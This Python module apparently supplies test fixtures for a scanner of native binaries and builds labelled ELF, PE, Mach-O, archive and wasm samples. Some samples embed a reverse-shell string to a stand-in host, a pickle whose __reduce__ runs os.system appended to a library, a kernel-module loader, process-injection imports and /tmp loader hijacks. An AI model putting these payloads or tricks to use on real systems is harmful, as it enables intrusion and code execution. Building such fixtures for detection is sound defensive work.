"""Native files: real libraries and programs, and what is done to them to hide or to harm."""

from __future__ import annotations

import io
import os
import pickle
import random
import struct
import zipfile
from importlib.util import find_spec
from pathlib import Path
from typing import Any

import native_forge as forge

from sample_set import COMMAND, Sample, written


class Runs:
    def __reduce__(self) -> Any:
        return os.system, (COMMAND,)


def zipped() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("data.pkl", pickle.dumps(Runs()))
    return out.getvalue()


def beside(module: str, relative: str) -> bytes:
    spec = find_spec(module)
    assert spec is not None
    assert spec.origin is not None
    return (Path(spec.origin).parent / relative).read_bytes()


def noise(length: int) -> bytes:
    return random.Random(5).randbytes(length)


def scrambled() -> bytes:
    """Its code exchanged for noise of the same length, as a packer leaves it."""
    from elftools.elf.elffile import ELFFile

    data = bytearray(beside("_cffi_backend", Path(find_spec("_cffi_backend").origin).name))  # type: ignore[union-attr,arg-type]
    text = ELFFile(io.BytesIO(bytes(data))).get_section_by_name(".text")
    data[text["sh_offset"] : text["sh_offset"] + text["sh_size"]] = noise(text["sh_size"])
    return bytes(data)


def upx() -> bytes:
    data = bytearray(forge.real_elf())
    data[0x400:0x404] = b"UPX!"
    return bytes(data)


def entry_outside() -> bytes:
    data = bytearray(forge.real_exe())
    at = struct.unpack_from("<I", data, 60)[0]
    struct.pack_into("<I", data, at + 24 + 16, 0x7FFF0000)
    return bytes(data)


def section_outside() -> bytes:
    data = bytearray(forge.real_exe())
    at = struct.unpack_from("<I", data, 60)[0]
    optional = struct.unpack_from("<H", data, at + 20)[0]
    struct.pack_into("<I", data, at + 24 + optional + 16, 0x7FFF0000)
    return bytes(data)


def constructor() -> bytes:
    return forge.compiled(forge.CONSTRUCTOR, "-shared")


def kernel_module() -> bytes:
    return forge.compiled(MODULE_LOADER, "-shared", "-fPIC")


ELF, EXE, GCC = ("markupsafe",), ("setuptools",), ("markupsafe",) if forge.HAVE_GCC else ("no_gcc_here",)
REVIEW, DANGER, UNVERIFIABLE = ("review",), ("danger",), ("unverifiable",)
SHELL = 'const char *c = "bash -i >& /dev/tcp/192.0.2.1/4444 0>&1"; const char *f(void) { return c; }'
MODULE_LOADER = "long init_module(void *, unsigned long, const char *); long f(void) { return init_module(0, 0, 0); }"
SAMPLES = (
    Sample("elf/honest-extension", "elf", written("_speedups.so", forge.real_elf), REVIEW, honest=True, needs=ELF),
    Sample(
        "elf/constructor-runs-a-command", "elf", written("ops.so", constructor),
        REVIEW, rule="native.library", needs=GCC, trick="A constructor runs a command as soon as it is loaded.",
    ),
    Sample(
        "elf/reverse-shell", "elf", written("ops.so", lambda: forge.compiled(SHELL, "-shared", "-fPIC")), DANGER,
        rule="native.reverse-shell", needs=GCC, trick="It holds the command that hands a shell to somebody else.",
    ),
    Sample(
        "elf/kernel-module", "elf", written("ops.so", kernel_module), DANGER,
        rule="native.kernel", needs=GCC, trick="It puts code into the kernel.",
    ),
    Sample(
        "elf/disguised", "elf", written("model.safetensors", forge.real_elf), DANGER,
        rule="native.disguised", needs=ELF, trick="A library whose name says that it is tensors.",
    ),
    Sample(
        "elf/writable-code", "elf", written("ops.so", lambda: forge.elf_with_flags(1, 7)), REVIEW,
        rule="native.writable-code", needs=ELF, trick="Its code can be changed while it runs.",
    ),
    Sample(
        "elf/audit", "elf", written("ops.so", lambda: forge.elf_with_dynamic(0x6FFFFEFC)), DANGER, rule="native.audit",
        needs=ELF, trick="It has a library watch every call of the program.",
    ),
    Sample(
        "elf/rpath-tmp", "elf",
        written("ops.so", lambda: forge.compiled("int f;", "-shared", "-Wl,-rpath,/tmp/libs")), REVIEW,
        rule="native.search-path", needs=GCC, trick="Its libraries are looked for where anybody can put one.",
    ),
    Sample(
        "elf/own-loader", "elf",
        written("tool", lambda: forge.compiled("int main(void) { return 0; }", "-Wl,-dynamic-linker,/tmp/ld.so")),
        DANGER, rule="native.interpreter", needs=GCC, trick="The system starts a file in /tmp in its place.",
    ),
    Sample(
        "elf/segment-outside", "elf", written("ops.so", forge.elf_with_segment_outside), UNVERIFIABLE,
        rule="native.lies", needs=ELF, trick="A segment lies outside of the file.",
    ),
    Sample(
        "elf/two-dynamic-tables", "elf", written("ops.so", forge.elf_with_two_dynamic_tables), UNVERIFIABLE,
        rule="native.lies", needs=ELF, trick="Tools see other libraries than the loader.",
    ),
    Sample(
        "elf/cut-off", "elf", written("ops.so", lambda: forge.real_elf()[:3000]), UNVERIFIABLE, needs=ELF,
        trick="Most of it is missing.",
    ),
    Sample("elf/packed", "elf", written("ops.so", upx), UNVERIFIABLE, rule="native.packed", needs=ELF,
           trick="It is packed."),
    Sample(
        "elf/scrambled", "elf", written("ops.so", scrambled), UNVERIFIABLE, rule="native.packed",
        needs=("_cffi_backend", "elftools"), trick="Its code is encrypted.",
    ),
    Sample(
        "elf/appended-pickle", "elf", written("ops.so", lambda: forge.real_elf() + pickle.dumps(Runs())), DANGER,
        rule="native.appended", needs=ELF, trick="A harmful pickle is appended.",
    ),
    Sample(
        "elf/appended-zip", "elf", written("ops.so", lambda: forge.real_elf() + zipped()), DANGER,
        rule="native.appended", needs=ELF, trick="A zip with a harmful pickle is appended.",
    ),
    Sample(
        "elf/appended-noise", "elf", written("ops.so", lambda: forge.real_elf() + noise(5000)), UNVERIFIABLE,
        rule="native.appended", needs=ELF, trick="Something encrypted is appended.",
    ),
    Sample("pe/honest-launcher", "pe", written("cli.exe", forge.real_exe), REVIEW, honest=True, needs=EXE),
    Sample(
        "pe/injection", "pe",
        written("ops.dll", lambda: forge.exe_importing("WriteProcessMemory", "CreateRemoteThread")), DANGER,
        rule="native.injection", needs=EXE, trick="It puts code into other programs.",
    ),
    Sample("pe/entry-outside", "pe", written("cli.exe", entry_outside), UNVERIFIABLE, rule="native.lies", needs=EXE,
           trick="It starts in a place that is not in the file."),
    Sample("pe/section-outside", "pe", written("cli.exe", section_outside), UNVERIFIABLE, rule="native.lies", needs=EXE,
           trick="A section lies outside of the file."),
    Sample(
        "pe/writable-code", "pe", written("cli.exe", lambda: forge.exe_with(text=0xE0000020)), REVIEW,
        rule="native.writable-code", needs=EXE, trick="Its code can be changed while it runs.",
    ),
    Sample("pe/disguised", "pe", written("weights.gguf", forge.real_exe), DANGER, rule="native.disguised", needs=EXE,
           trick="A program whose name says that it is weights."),
    Sample(
        "pe/appended-library", "pe", written("cli.exe", lambda: forge.real_exe() + forge.real_elf()), REVIEW,
        rule="native.appended", needs=(*EXE, *ELF), trick="A library is appended.",
    ),
    Sample(
        "mach-o/as-linked", "mach-o", written("ops.dylib", forge.macho), REVIEW, honest=True,
    ),
    Sample("mach-o/for-two", "mach-o", written("ops.dylib", lambda: forge.fat(forge.macho(), forge.macho())), REVIEW,
           honest=True),
    Sample(
        "mach-o/inserts-a-library", "mach-o",
        written("ops.dylib", lambda: forge.macho(environment="DYLD_INSERT_LIBRARIES=/tmp/x.dylib")), DANGER,
        rule="native.audit", trick="It has a further library loaded into the program.",
    ),
    Sample(
        "mach-o/takes-another-task", "mach-o",
        written("ops.dylib", lambda: forge.macho(imports=("task_for_pid", "mach_vm_write", "thread_create_running"))),
        DANGER, rule="native.injection", trick="It puts code into other programs.",
    ),
    Sample("mach-o/rpath-tmp", "mach-o", written("ops.dylib", lambda: forge.macho(rpaths=("/tmp/libs",))), REVIEW,
           rule="native.search-path", trick="Its libraries are looked for where anybody can put one."),
    Sample("mach-o/encrypted", "mach-o", written("ops.dylib", lambda: forge.macho(encrypted=1)), UNVERIFIABLE,
           rule="native.packed", trick="Its code is encrypted."),
    Sample("mach-o/writable-code", "mach-o", written("ops.dylib", lambda: forge.macho(protection=7)), REVIEW,
           rule="native.writable-code", trick="Its code can be changed while it runs."),
    Sample(
        "mach-o/one-place-for-two", "mach-o",
        written("ops.dylib", lambda: forge.fat(forge.macho(), forge.macho(), overlap=True)), UNVERIFIABLE,
        rule="native.lies", trick="The code for two processors lies in one place.",
    ),
    Sample("static-library/honest", "static-library",
           written("libnpymath.a", lambda: beside("numpy", "_core/lib/libnpymath.a")), REVIEW, honest=True,
           needs=("numpy",)),
    Sample("static-library/cut-off", "static-library",
           written("ops.a", lambda: forge.archive(("a.o", forge.real_elf()))[:-100]), UNVERIFIABLE, needs=ELF,
           trick="Its last member is cut off."),
    Sample("static-library/elsewhere", "static-library", written("ops.a", lambda: b"!<thin>\n" + b" " * 60),
           UNVERIFIABLE, trick="It only names files elsewhere."),
    Sample("static-library/debian", "static-library",
           written("ops.a", lambda: forge.archive(("debian-binary", b"2.0\n"), ("control.tar", b""))), UNVERIFIABLE,
           trick="It is a package whose scripts run as root when it is installed."),
    Sample("static-library/member-lies", "static-library",
           written("ops.a", lambda: forge.archive(("a.o", forge.elf_with_segment_outside()))), UNVERIFIABLE,
           rule="native.lies", needs=ELF, trick="An object file in it lies about its size."),
    Sample("wasm/honest", "wasm",
           written("codec.wasm", lambda: beside("playwright", "driver/package/lib/webp_codec.wasm")), REVIEW,
           honest=True, needs=("playwright",)),
    Sample("wasm/small", "wasm", written("add.wasm", forge.wasm), REVIEW, honest=True),
    Sample("wasm/cut-off", "wasm", written("add.wasm", lambda: forge.wasm()[:-2]), UNVERIFIABLE,
           trick="Its code is cut off."),
    Sample("wasm/disorder", "wasm",
           written("add.wasm", lambda: forge.wasm() + b"\x02\x01\0"), UNVERIFIABLE,
           trick="A second list of imports follows, which some readers take and others refuse."),
)  # fmt: skip
